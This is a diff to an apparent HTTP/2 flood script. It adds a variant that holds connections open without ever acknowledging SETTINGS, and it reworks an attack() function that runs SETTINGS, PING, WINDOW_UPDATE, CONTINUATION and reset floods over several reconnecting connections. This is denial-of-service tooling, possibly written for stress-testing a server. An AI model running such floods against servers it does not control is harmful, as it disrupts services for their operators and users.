@@ -126,14 +126,15 @@ def repeat(kind, flags, payload):
     return flood
 
 
+UNACKNOWLEDGED = "hold_unacknowledged"  # who never acknowledges SETTINGS is bound by none of them
 FLOODS = {
-    "hold": hold, "reset": reset, "continuation": continuation, "continuation_full": continuation_full,
+    "hold": hold, UNACKNOWLEDGED: hold, "reset": reset, "continuation": continuation, "continuation_full": continuation_full,
     "settings": repeat(SETTINGS, 0, b""), "window": repeat(WINDOW_UPDATE, 0, (1).to_bytes(4, "big")),
     "ping": repeat(PING, 0, bytes(8)),
 }
 
 
-def attack(name, port, context, path, seconds, connections=4, acknowledge=True):
+def attack(name, port, context, path, seconds, connections=4):
     """The flood on some connections at once; one that the server closed is opened again, without haste. Returns how
     often that was."""
     until = time.monotonic() + seconds
@@ -142,12 +143,12 @@ def attack(name, port, context, path, seconds, connections=4, acknowledge=True):
     def one(number):
         while time.monotonic() < until:
             try:
-                connection = Connection(port, context, acknowledge)
+                connection = Connection(port, context, name != UNACKNOWLEDGED)
             except OSError:
                 time.sleep(0.05)
                 continue
             FLOODS[name](connection, path, until)
-            while name == "hold" and time.monotonic() < until and connection.send(b""):
+            while FLOODS[name] is hold and time.monotonic() < until and connection.send(b""):
                 time.sleep(0.05)
             closed[number] += time.monotonic() < until
             connection.close()
